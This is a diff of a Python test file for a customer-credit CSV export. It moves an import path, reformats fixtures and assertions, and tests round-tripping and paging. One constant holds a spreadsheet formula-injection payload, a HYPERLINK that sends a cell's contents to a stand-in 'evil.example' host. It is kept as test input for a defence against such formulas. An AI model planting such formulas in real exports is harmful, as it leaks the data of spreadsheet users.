@@ -9,7 +9,7 @@ import io
 import pytest
 import pytest_asyncio
 
-from customer_credit.exports import export_csv
+from customer_credit.http.rest.export import export_csv
 from customer_credit.persistence.accounts import AccountQuery
 from tests.api.conftest import ALPHANUMERIC_CNPJ, CNPJ, CPF, close_account, open_account
 from tests.api.import_files import account_with_history
@@ -17,21 +17,54 @@ from tests.conftest import import_and_wait
 
 EXPORT_URL = "/accounts/export.csv"
 EXPORT_HEADER = [
-    "Id", "Email", "Document", "Document Type", "Credit Limit", "Tolerance", "Status", "Description",
-    "Created At", "Updated At",
+    "Id",
+    "Email",
+    "Document",
+    "Document Type",
+    "Credit Limit",
+    "Tolerance",
+    "Status",
+    "Description",
+    "Created At",
+    "Updated At",
 ]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
 
 # Opened through GraphQL, in this order.
 ACCOUNTS = [
-    {"id": "exp-1", "email": "ana@example.com", "documentType": "CPF", "document": CPF, "creditLimit": "1500.00",
-     "tolerance": "0.05", "description": "First customer"},
-    {"id": "exp-2", "email": "Bruno.Lima@Example.com", "documentType": "CNPJ", "document": CNPJ, "creditLimit": "0",
-     "tolerance": "0.0525", "description": 'Quotes " and, commas\nand a second line'},
-    {"id": "exp-3", "email": "carla@example.com", "documentType": "CNPJ", "document": ALPHANUMERIC_CNPJ,
-     "creditLimit": "1000000000.00", "tolerance": "1"},
-    {"id": "exp-4", "email": "davi@example.com", "documentType": "OTHER", "document": "PASS-0042",
-     "description": "Crédito 🚀 日本語"},
+    {
+        "id": "exp-1",
+        "email": "ana@example.com",
+        "documentType": "CPF",
+        "document": CPF,
+        "creditLimit": "1500.00",
+        "tolerance": "0.05",
+        "description": "First customer",
+    },
+    {
+        "id": "exp-2",
+        "email": "Bruno.Lima@Example.com",
+        "documentType": "CNPJ",
+        "document": CNPJ,
+        "creditLimit": "0",
+        "tolerance": "0.0525",
+        "description": 'Quotes " and, commas\nand a second line',
+    },
+    {
+        "id": "exp-3",
+        "email": "carla@example.com",
+        "documentType": "CNPJ",
+        "document": ALPHANUMERIC_CNPJ,
+        "creditLimit": "1000000000.00",
+        "tolerance": "1",
+    },
+    {
+        "id": "exp-4",
+        "email": "davi@example.com",
+        "documentType": "OTHER",
+        "document": "PASS-0042",
+        "description": "Crédito 🚀 日本語",
+    },
     {"id": "exp-5", "email": "eva@example.com"},
 ]
 
@@ -87,14 +120,27 @@ async def test_export_writes_values_the_way_the_importer_reads_them(client, acco
     rows = by_id(await export(client))
 
     assert rows["exp-1"] | {"Created At": "", "Updated At": ""} == {
-        "Id": "exp-1", "Email": "ana@example.com", "Document": "529.982.247-25", "Document Type": "CPF",
-        "Credit Limit": "1500.00", "Tolerance": "0.05", "Status": "Open", "Description": "First customer",
-        "Created At": "", "Updated At": "",
+        "Id": "exp-1",
+        "Email": "ana@example.com",
+        "Document": "529.982.247-25",
+        "Document Type": "CPF",
+        "Credit Limit": "1500.00",
+        "Tolerance": "0.05",
+        "Status": "Open",
+        "Description": "First customer",
+        "Created At": "",
+        "Updated At": "",
     }
     assert (rows["exp-2"]["Email"], rows["exp-2"]["Credit Limit"], rows["exp-2"]["Tolerance"]) == (
-        "Bruno.Lima@example.com", "0.00", "0.0525")
+        "Bruno.Lima@example.com",
+        "0.00",
+        "0.0525",
+    )
     assert (rows["exp-3"]["Document"], rows["exp-3"]["Credit Limit"], rows["exp-3"]["Tolerance"]) == (
-        "12.ABC.345/01DE-35", "1000000000.00", "1.00")
+        "12.ABC.345/01DE-35",
+        "1000000000.00",
+        "1.00",
+    )
     assert (rows["exp-4"]["Document"], rows["exp-4"]["Document Type"]) == ("PASS0042", "Other")
     assert (rows["exp-5"]["Document"], rows["exp-5"]["Document Type"], rows["exp-5"]["Description"]) == ("", "", "")
 
@@ -139,7 +185,9 @@ async def test_export_neutralises_formula_prefixes_in_ids_and_emails(client):
 async def test_export_walks_the_accounts_in_keyset_pages_one_chunk_each(app, accounts):
     repository = app.state.services.accounts
 
-    chunks = [chunk async for chunk in export_csv(repository, AccountQuery(order_field="CREATED_AT", descending=False), 2)]
+    chunks = [
+        chunk async for chunk in export_csv(repository, AccountQuery(order_field="CREATED_AT", descending=False), 2)
+    ]
 
     assert len(chunks) == 1 + 3  # the header, then pages of 2, 2 and 1
     assert list(by_id(b"".join(chunks).decode("utf-8"))) == [a["id"] for a in ACCOUNTS]
@@ -214,7 +262,12 @@ async def test_edited_export_imported_in_update_mode_changes_exactly_the_edited_
     run = await import_and_wait(client, csv_bytes([header, *rows]), "UPDATE", filename="export.csv")
 
     assert (run["status"], run["updatedCount"], run["unchangedCount"], run["failedCount"], run["createdCount"]) == (
-        "SUCCEEDED", 2, len(ACCOUNTS) - 2, 0, 0)
+        "SUCCEEDED",
+        2,
+        len(ACCOUNTS) - 2,
+        0,
+        0,
+    )
     first, fourth = await account_with_history(client, "exp-1"), await account_with_history(client, "exp-4")
     assert first["creditLimit"] == "2500.50"
     assert fourth["description"] == "Edited in a spreadsheet"
@@ -235,7 +288,12 @@ async def test_unchanged_export_imported_in_update_mode_leaves_every_row_unchang
     run = await import_and_wait(client, content, "UPDATE", filename="export.csv")
 
     assert (run["status"], run["totalRows"], run["unchangedCount"], run["updatedCount"], run["failedCount"]) == (
-        "SUCCEEDED", len(ACCOUNTS), len(ACCOUNTS), 0, 0)
+        "SUCCEEDED",
+        len(ACCOUNTS),
+        len(ACCOUNTS),
+        0,
+        0,
+    )
 
 
 async def test_formula_like_description_survives_an_unchanged_round_trip(client, worker):
